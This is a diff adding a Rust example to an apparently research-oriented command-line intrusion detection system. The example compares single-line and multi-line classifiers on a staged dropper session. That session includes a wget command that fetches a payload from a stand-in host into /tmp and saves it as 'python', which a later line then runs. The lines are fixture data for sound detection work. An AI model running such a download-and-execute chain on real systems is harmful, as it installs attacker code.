@@ -1,0 +1,123 @@
+//! Multi-line context detection: the Section IV-C motivating scenario.
+//!
+//! `wget -c http://…/payload -o python` followed by `python` — each line
+//! alone looks mundane; together they are a dropper. This example tunes
+//! both the single-line and the multi-line classifier and compares their
+//! scores on exactly that session.
+//!
+//! Run with: `cargo run --release --example multiline_dropper`
+
+use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
+use cmdline_ids::tuning::{
+    build_windows, ClassificationTuner, MultiLineClassifier, TuneConfig,
+};
+use corpus::{GroundTruth, LogRecord};
+use ids_rules::RuleIds;
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+
+fn main() {
+    let mut rng = StdRng::seed_from_u64(2024);
+    let mut config = PipelineConfig::experiment();
+    config.attack_prob = 0.2;
+    let dataset = config.generate_dataset(&mut rng);
+    println!("pre-training on {} lines…", dataset.train.len());
+    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+
+    let ids = RuleIds::with_default_rules();
+    let train_lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
+    // The signature IDS is silent on every line of the dropper chain —
+    // that is the point of the scenario. To give the tuners a training
+    // signal for such chains, enrich the supervision with ground truth,
+    // playing the role of the richer alert sources (analyst reports,
+    // post-incident labels) a production deployment accumulates.
+    let labels: Vec<bool> = dataset
+        .train
+        .iter()
+        .map(|r| ids.is_alert(&r.line) || r.truth.is_malicious())
+        .collect();
+
+    println!("tuning single-line classifier…");
+    let single = ClassificationTuner::fit(
+        &pipeline,
+        &train_lines,
+        &labels,
+        &TuneConfig::scaled(),
+        &mut rng,
+    );
+    println!("tuning multi-line classifier (3-line context)…");
+    let multi = MultiLineClassifier::fit(
+        &pipeline,
+        &dataset.train,
+        &labels,
+        3,
+        600,
+        &TuneConfig::scaled(),
+        &mut rng,
+    );
+
+    // The dropper session, staged as one user's recent history.
+    let session: Vec<LogRecord> = [
+        "cd /tmp",
+        "wget -c http://update-cdn.xyz/payload -o python",
+        "python",
+    ]
+    .iter()
+    .enumerate()
+    .map(|(i, line)| LogRecord {
+        user: 9,
+        timestamp: 1000 + 30 * i as u64,
+        line: line.to_string(),
+        truth: GroundTruth::Benign, // irrelevant here
+    })
+    .collect();
+
+    let windows = build_windows(&session, 3, 600);
+    let multi_scores = multi.score_records(&pipeline, &session);
+
+    println!();
+    println!(
+        "{:<52} {:>8} {:>8} {:>8}",
+        "command line", "IDS", "single", "multi"
+    );
+    for (i, record) in session.iter().enumerate() {
+        let s_single = single.score(&pipeline, &record.line);
+        println!(
+            "{:<52} {:>8} {:>8.3} {:>8.3}   (context: {:?})",
+            record.line,
+            if ids.is_alert(&record.line) { "ALERT" } else { "silent" },
+            s_single,
+            multi_scores[i],
+            windows[i].lines
+        );
+    }
+
+    // The controlled contrast: the *same* target line under a benign
+    // workflow context. Only the multi-line method can tell them apart.
+    let benign_session: Vec<LogRecord> = ["cd /home/dev/project", "ls -la", "python"]
+        .iter()
+        .enumerate()
+        .map(|(i, line)| LogRecord {
+            user: 10,
+            timestamp: 2000 + 30 * i as u64,
+            line: line.to_string(),
+            truth: GroundTruth::Benign,
+        })
+        .collect();
+    let benign_multi = multi.score_records(&pipeline, &benign_session);
+
+    println!();
+    println!("same target, different context:");
+    println!(
+        "  `python` after [cd /home/dev/project, ls -la]  → multi {:.3}",
+        benign_multi[2]
+    );
+    println!(
+        "  `python` after [cd /tmp, wget … -o python]     → multi {:.3}",
+        multi_scores[2]
+    );
+    println!();
+    println!("the single-line view cannot distinguish these two `python`");
+    println!("invocations at all; the window inherits the dropper context");
+    println!("(paper Section IV-C).");
+}
